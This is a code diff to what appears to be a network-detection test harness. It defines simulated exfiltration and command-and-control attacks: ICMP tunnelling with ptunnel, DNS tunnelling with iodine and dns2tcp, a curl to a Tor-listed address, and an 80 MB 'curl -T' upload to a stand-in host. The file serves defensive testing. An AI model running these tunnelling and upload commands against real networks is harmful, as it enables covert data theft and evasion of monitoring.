@@ -100,7 +100,8 @@ def dns2tcp(n):
 
 def ptunnel(n):
     n.start("ptunnel")
-    n.start("ptunnel", "-p", address(13), "-lp", "8000", "-da", address(13), "-dp", "7003", ns=n.client, watched=True,
+    # The far end answers from its first address, whatever it was asked at.
+    n.start("ptunnel", "-p", S4, "-lp", "8000", "-da", S4, "-dp", "7003", ns=n.client, watched=True,
             ready=lambda _: n.listens("t", 8000, n.client))
     n.run("bash", "-c", "head -c 100000 /dev/urandom | timeout 8 socat -t 1 - TCP:127.0.0.1:8000 > /dev/null", check=False)
 
@@ -150,7 +151,7 @@ def attacks(n, ssh):
                ("shell",), ("c2",), "high", 1),
         Attack("iodine", iodine, "tunnel.example", "iodine", ("dns",), ("exfil", "c2"), "medium", 30, "iodine"),
         Attack("dns2tcp", dns2tcp, "pipes.example", "dns2tcpc", ("dns",), ("exfil", "c2"), "medium", 30, "dns2tcpc"),
-        Attack("ptunnel", ptunnel, address(13), "ptunnel", ("icmp",), ("exfil", "c2"), "medium", 30, "ptunnel"),
+        Attack("ptunnel", ptunnel, S4, "ptunnel", ("icmp",), ("exfil", "c2"), "medium", 30, "ptunnel"),
         Attack("an address on a list of Tor's", lambda n: n.run("curl", "-sk", "-m", "5", f"https://{address(14)}/"),
                address(14), "curl", ("intel",), ("intel", "policy", "c2"), "low", 5),
         Attack("curl -T, 80 MB", lambda n: upload(n, 8, "curl", "-s", "-T", big, "-H", "Expect:", f"http://{address(15)}:7001/"),
